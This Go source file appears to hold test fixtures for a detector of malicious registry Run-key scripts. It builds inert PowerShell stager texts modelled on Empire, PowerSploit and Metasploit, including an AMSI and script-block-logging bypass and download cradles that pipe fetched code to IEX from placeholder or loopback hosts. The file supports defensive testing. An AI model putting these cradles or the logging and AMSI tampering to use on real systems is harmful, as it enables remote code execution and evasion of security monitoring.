package main

import "strings"

// The payload texts below are HARMLESS. They are shaped like the stagers the
// detection has to recognise (Empire's script-block-logging and AMSI
// tampering, WebClient with a browser User-Agent, the default listener URIs,
// the RC4 -bxor loop, IEX), but:
//   - every network address is a reserved name (c2.example.invalid, RFC 2606)
//     or the loopback address;
//   - the logging/AMSI block is guarded by a PowerShell version test that
//     can never be true (-ge 99), so it is dead code;
//   - the key material is a fixed dummy, and there is no shellcode anywhere.
// Each text starts with a comment naming it as a runkeyhunt fixture.

// fixtureBanner is the first line of every payload text.
const fixtureBanner = "# runkeyhunt test fixture (%s): inert, stager-shaped text; it reaches only reserved names\n"

// empireStagerBody is shaped like Empire's PowerShell stager. %SER% and
// %URI% are filled per variant.
const empireStagerBody = `If($PSVersionTable.PSVersion.Major -ge 99){$GPF=[Ref].Assembly.GetType('System.Management.Automation.Utils').GetField('cachedGroupPolicySettings','N'+'onPublic,Static');If($GPF){$GPC=$GPF.GetValue($null);If($GPC['ScriptB'+'lockLogging']){$GPC['ScriptB'+'lockLogging']['EnableScriptB'+'lockLogging']=0;$GPC['ScriptB'+'lockLogging']['EnableScriptBlockInvocationLogging']=0}};[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')|?{$_}|%{$_.GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)}};` +
	`[System.Net.ServicePointManager]::Expect100Continue=0;$wc=New-Object System.Net.WebClient;$u='Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko';$wc.Headers.Add('User-Agent',$u);$wc.Proxy=[System.Net.WebRequest]::DefaultWebProxy;$wc.Proxy.Credentials=[System.Net.CredentialCache]::DefaultNetworkCredentials;` +
	`$K=[System.Text.Encoding]::ASCII.GetBytes('00000000000000000000000000000000');$R={$D,$K=$Args;$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Count])%256;$S[$_],$S[$J]=$S[$J],$S[$_]};$D|%{$I=($I+1)%256;$H=($H+$S[$I])%256;$S[$I],$S[$H]=$S[$H],$S[$I];$_-bxor$S[($S[$I]+$S[$H])%256]}};` +
	`$ser='%SER%';$t='%URI%';$wc.Headers.Add('Cookie','session=cnVua2V5aHVudC1maXh0dXJl');$data=$wc.DownloadData($ser+$t);$iv=$data[0..3];$data=$data[4..$data.length];-join[Char[]](& $R $data ($IV+$K))|IEX`

// powerSploitBody is shaped like the script PowerSploit's Add-Persistence
// stores (a function wrapping a download cradle, then its invocation).
const powerSploitBody = `function Update-Windows{
Param([Switch]$Persist)
$ErrorActionPreference='SilentlyContinue'
$wc=New-Object Net.WebClient
$wc.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36')
IEX $wc.DownloadString('%SER%%URI%')
}
Update-Windows`

// metasploitBody is shaped like the script Metasploit's
// registry_persistence stores; the real one carries shellcode, this one only
// a download cradle to the loopback address.
const metasploitBody = `$c=New-Object System.Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0');` +
	`$b=$c.DownloadData('%SER%%URI%');if($b.Length -gt 0){IEX ([Text.Encoding]::UTF8.GetString($b))}`

// cradleBody is the plain one-line download cradle.
const cradleBody = `IEX (New-Object Net.WebClient).DownloadString('%SER%%URI%')`

// stager fills a body with a banner tag, server and URI.
func stager(tag, body, server, uri string) string {
	s := strings.ReplaceAll(body, "%SER%", server)
	s = strings.ReplaceAll(s, "%URI%", uri)
	return strings.Replace(fixtureBanner, "%s", tag, 1) + s
}

// Ready-made payload texts used by the corpus, the demo and the Sysmon
// scenario. Distinct tags keep every payload (and its sha256) distinct.
func empireStager(tag, uri string) string {
	return stager(tag, empireStagerBody, "http://c2.example.invalid:80", uri)
}

func powerSploitScript(tag string) string {
	return stager(tag, powerSploitBody, "http://c2.example.invalid", "/news.php")
}

func metasploitScript(tag string) string {
	return stager(tag, metasploitBody, "http://127.0.0.1:8080", "/aB3xQ")
}

func cradle(tag, uri string) string {
	return stager(tag, cradleBody, "http://c2.example.invalid", uri)
}
